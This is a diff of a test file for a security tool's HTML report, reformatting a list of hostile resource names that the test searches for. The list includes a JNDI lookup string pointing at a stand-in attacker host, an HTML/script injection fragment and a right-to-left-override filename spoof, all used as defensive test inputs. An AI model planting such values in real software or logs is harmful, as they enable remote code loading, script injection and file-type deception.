@@ -88,7 +88,12 @@ describe.skipIf(!hasBrowser())('the HTML report', () => {
 
   it('finds a hostile name by its own words', async () => {
     const { page } = await open(hostile, '#findings?group=none');
-    for (const name of ['invoice\u202Efdp.exe', "'><svg", '${jndi:ldap://evil.example/a}', '🪣🪣']) {
+    for (const name of [
+      'invoice\u202Efdp.exe',
+      "'><svg",
+      '${jndi:ldap://evil.example/a}',
+      '🪣🪣',
+    ]) {
       const [word = ''] = name.split(' ');
       const found = hostile.findings.filter(({ resource, reasons }) =>
         [resource.name, ...reasons].some((text) => text.toLowerCase().includes(word.toLowerCase())),
